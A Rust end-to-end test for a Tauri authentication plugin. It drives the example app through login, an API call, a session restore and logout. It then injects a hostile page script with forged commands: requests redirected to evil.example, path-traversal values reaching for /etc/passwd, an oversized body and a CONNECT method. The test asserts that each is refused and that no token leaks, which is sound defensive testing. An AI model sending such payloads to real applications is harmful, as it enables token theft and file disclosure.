//! The plugin's example app (`examples/minimal`: plain HTML and JavaScript on
//! `window.__TAURI__.latchkey`) in its real window, as a Tauri developer would first run it:
//! sign in through the scripted browser, call the API, restart and restore, sign out. Then a
//! hostile script in that page calls every command with forged arguments and listens to every
//! event, and nothing it gets back may hold a token.

use latchkey_auth::AppIdentity;
use latchkey_dev_idp::DESKTOP_CLIENT_ID;
use latchkey_test_support::DevStack;

mod window;
use window::*;

async fn launch(config: &std::path::Path) -> App {
    let app = std::env::var("LATCHKEY_EXAMPLE_APP")
        .expect("LATCHKEY_EXAMPLE_APP names the built example: run `cargo xtask test`");
    require_scripted_browser();
    launch_app(&app, |driver| {
        driver.env("EXAMPLE_AUTH_CONFIG", config);
    })
    .await
}

/// The page's own script: every plugin command with odd and forged arguments, and a command
/// its capability does not grant. Resolves to everything the page received, as JSON.
const HOSTILE_JS: &str = r#"
const done = arguments[arguments.length - 1];
const seen = [];
const keep = (what) => (value) => seen.push({ what, value });
const { invoke } = window.__TAURI__.core;
window.__TAURI__.event.listen("latchkey://session-changed", keep("event"));
const huge = "x".repeat(2 * 1024 * 1024);
const calls = [
  ["session", { token: true }],
  ["call_api", { request: { path: "/api/messages/protected" } }],
  ["call_api", { request: { path: "http://evil.example/steal" } }],
  ["call_api", { request: { path: "//evil.example/steal" } }],
  ["call_api", { request: { path: "/../../../etc/passwd" } }],
  ["call_api", { request: { path: "/api/%2e%2e/x" } }],
  ["call_api", { request: { path: "/api/todos", method: "POST", body: { title: huge } } }],
  ["call_api", { request: { path: "/api/todos", url: "http://evil.example/" } }],
  ["call_api", { request: { path: "/api/todos", method: "CONNECT" } }],
  ["call_api", {}],
  ["retry_now", { now: "yes" }],
  ["end_provider_session", { url: "http://evil.example/" }],
  ["cancel_login", { state: "forged" }],
  ["reload_config", { path: "/etc/passwd" }],
  ["session", {}],
];
(async () => {
  for (const [command, args] of calls) {
    await invoke("plugin:latchkey|" + command, args).then(keep(command), keep(command + " error"));
  }
  await invoke("plugin:app|version").then(keep("app version"), keep("app version error"));
  await new Promise((r) => setTimeout(r, 0));
  done(JSON.stringify(seen));
})();
"#;

#[tokio::test(flavor = "multi_thread")]
async fn the_example_app_signs_in_calls_the_api_restores_and_signs_out_and_a_hostile_page_gets_no_token()
 {
    let _one = ONE_WINDOW.lock().await;
    let stack = DevStack::start().await;
    let dir = std::env::temp_dir().join(format!("latchkey-example-{}", stack.idp.addr().port()));
    std::fs::create_dir_all(&dir).unwrap();
    let config = stack.write_config(&dir);

    let app = launch(&config).await;
    app.text("#status", "Signed out").await;
    app.click("#login").await;
    app.text("#status", "Signed in as Jemma Doe").await;
    app.click("#call").await;
    app.text("#answer", "200").await;
    app.text("#answer", "dev-idp|jemma").await;
    app.screenshot("example-signed-in").await;

    // The plugin stored the refresh token under the example's identifier, not Latchkey's.
    let identity =
        AppIdentity::new("Latchkey example").with_vault_service("dev.latchkey.example-minimal");
    let store =
        latchkey_test_support::active_store(Some(&identity), stack.idp.issuer(), DESKTOP_CLIENT_ID)
            .await;
    let refresh = store
        .refresh_token()
        .await
        .unwrap()
        .expect("the example stored the refresh token in the vault");

    let seen = answered(
        "the hostile script",
        app.client.execute_async(HOSTILE_JS, vec![]),
    )
    .await
    .expect("the hostile script ran");
    let seen = seen.as_str().unwrap_or_default().to_owned();
    assert!(seen.contains("\"what\":\"call_api\""), "{seen:.2000}");
    assert!(
        seen.contains("dev-idp|jemma"),
        "the honest call answered: {seen:.2000}"
    );
    for refused in [
        "must start with",
        "is not a path under",
        "segments",
        "at most 1048576",
        "unknown field",
        "CONNECT",
        "no provider session to end",
    ] {
        assert!(seen.contains(refused), "{refused:?} not in {seen:.3000}");
    }
    assert!(
        seen.contains("\"what\":\"app version error\"") && seen.contains("not allowed"),
        "the ACL refused a command the capability does not grant: {seen:.3000}"
    );
    assert!(
        !seen.contains(refresh.secret()),
        "the refresh token reached the page"
    );
    assert!(
        !seen.contains("eyJ"),
        "a JWT reached the page: {seen:.3000}"
    );
    app.quit(&stack.idp.issued_refresh_tokens()).await;

    // A restart restores the session from the vault, without the browser.
    let app = launch(&config).await;
    app.text("#status", "Signed in as Jemma Doe").await;
    app.click("#logout").await;
    app.text("#status", "Signed out").await;
    assert!(store.refresh_token().await.unwrap().is_none());
    app.quit(&stack.idp.issued_refresh_tokens()).await;
    let _ = std::fs::remove_dir_all(&dir);
}
